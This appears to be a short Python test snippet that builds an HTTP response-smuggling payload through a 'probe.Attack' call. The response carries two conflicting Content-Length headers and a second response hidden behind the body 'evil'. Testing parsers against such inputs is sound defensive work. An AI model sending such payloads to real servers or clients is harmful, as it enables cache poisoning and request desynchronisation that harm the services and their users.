import probe

respond = probe.Attack(
    b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\nContent-Length: 50\r\n\r\nevilHTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nevil"
)
